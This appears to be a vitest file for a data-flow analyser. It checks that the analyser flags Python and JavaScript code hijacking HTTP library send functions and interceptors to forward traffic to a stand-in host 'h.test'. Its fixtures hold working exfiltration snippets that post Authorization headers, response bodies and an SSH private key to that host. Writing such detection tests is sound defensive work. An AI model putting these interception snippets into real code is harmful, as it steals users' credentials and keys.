// Functions of a library that the program puts its own in the place of: what others send passes through those.
import { beforeAll, describe, expect, it } from 'vitest';
import { prepare, run } from './harness.ts';

beforeAll(prepare);

const NOTE = "requests.Request('POST', 'https://h.test/x', data=request.headers['Authorization']).prepare()";
const OWN = `def send(self, request, **kw):\n    real(self, ${NOTE})\n    return real(self, request, **kw)\n`;
const py = (program: string) => `import requests\n${program}`;
const SESSION = 'requests.Session.send';

/** Whether what passes through goes to a host that is written in. */
function leaves(path: string, program: string): boolean {
  return run({ [path]: program })
    .flows()
    .some(({ from, to, host }) => to === 'network' && host === 'h.test' && from.includes('intercepted'));
}

describe('a function in the place of one of a library', () => {
  it.each([
    ['set at once', `real = ${SESSION}\n${OWN}${SESSION} = send\n`],
    ['set by a function', `real = ${SESSION}\n${OWN}def install():\n    ${SESSION} = send\n`],
    ['set by its name', `real = ${SESSION}\n${OWN}setattr(requests.Session, 'send', send)\n`],
    [
      'made around the original',
      `def wrap(real):\n    ${OWN.replaceAll('\n', '\n    ')}return send\n${SESSION} = wrap(${SESSION})\n`,
    ],
    [
      'by the long name of the class',
      `real = requests.sessions.Session.send\n${OWN}requests.sessions.Session.send = send\n`,
    ],
  ])('is given what others send: %s', (_, program) => expect(leaves('a.py', py(program))).toBe(true));

  it.each([
    [
      'an object that is called like one',
      `real = requests.Session.send\nclass Own:\n    def __call__(self, session, request):\n        requests.post('https://h.test/x', data=request.headers)\nrequests.Session.send = Own()\n`,
    ],
    [
      'a method of an adapter of its own',
      `from requests.adapters import HTTPAdapter\nclass Own(HTTPAdapter):\n    def send(self, request, **kw):\n        requests.post('https://h.test/x', data=request.headers)\n        return super().send(request, **kw)\n`,
    ],
  ])('is given it: %s', (_, program) => expect(leaves('a.py', py(program))).toBe(true));

  it.each([
    [
      'a hook of a session',
      "def note(answer, *more, **kw):\n    requests.post('https://h.test/x', data=answer.text)\ns = requests.Session()\ns.hooks['response'].append(note)\n",
    ],
    [
      'hooks a client is made with',
      "import httpx\ndef note(request):\n    httpx.post('https://h.test/x', json=dict(request.headers))\nc = httpx.Client(event_hooks={'request': [note]})\n",
    ],
  ])('is given it as well: %s', (_, program) => expect(leaves('a.py', py(program))).toBe(true));

  it.each([
    "const axios = require('axios');\nconst api = axios.create({});\napi.interceptors.response.use((r) => {\n  fetch('https://h.test/x', { method: 'POST', body: JSON.stringify(r.data) });\n  return r;\n});\n",
    "import ky from 'ky';\nconst api = ky.create({ hooks: { beforeRequest: [(r) => fetch('https://h.test/x', { method: 'POST', body: r.headers })] } });\n",
  ])('is what a client of Node is told to ask: %s', (program) => expect(leaves('a.mjs', program)).toBe(true));

  it('is none that only counts what it is told', () => {
    const program =
      "const axios = require('axios');\nlet n = 0;\naxios.interceptors.request.use((c) => {\n  n++;\n  return c;\n});\naxios.post('https://h.test/x', { n });\n";
    expect(leaves('a.js', program)).toBe(false);
  });

  it('is none where an adapter of the library is mounted', () => {
    const program =
      "from requests.adapters import HTTPAdapter\ns = requests.Session()\ns.mount('https://', HTTPAdapter(max_retries=3))\ns.post('https://h.test/x', json={'n': 1})\n";
    expect(leaves('a.py', py(program))).toBe(false);
  });

  it('is what all requests of a page answer to', () => {
    const program =
      "const real = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (body) {\n  navigator.sendBeacon('https://h.test/x', body);\n  return real.call(this, body);\n};\n";
    expect(leaves('a.mjs', program)).toBe(true);
  });

  it('is given it in a page as well', () => {
    const program =
      "const real = fetch;\nfunction own(url, o) {\n  real('https://h.test/x', { method: 'POST', body: o.headers.get('authorization') });\n  return real(url, o);\n}\nexport function install() {\n  globalThis.fetch = own;\n}\n";
    expect(leaves('a.mjs', program)).toBe(true);
  });

  it('sends nothing of it by handing it on', () => {
    const own = 'def send(self, request, **kw):\n    return real(self, request, **kw)\n';
    expect(leaves('a.py', py(`real = ${SESSION}\n${own}def install():\n    ${SESSION} = send\n`))).toBe(false);
  });
});

describe('a method of a class that is called on its object', () => {
  it('is sent what stands behind the object', () => {
    const program = `real = ${SESSION}\ndef ask(self, request):\n    return real(self, request)\nask(requests.Session(), requests.Request('POST', 'https://h.test/x', data=open('/home/u/.ssh/id_rsa').read()).prepare())\n`;
    const { flows } = run({ 'a.py': py(program) });
    expect(flows().some(({ from, host }) => host === 'h.test' && from.includes('content:ssh'))).toBe(true);
  });
});
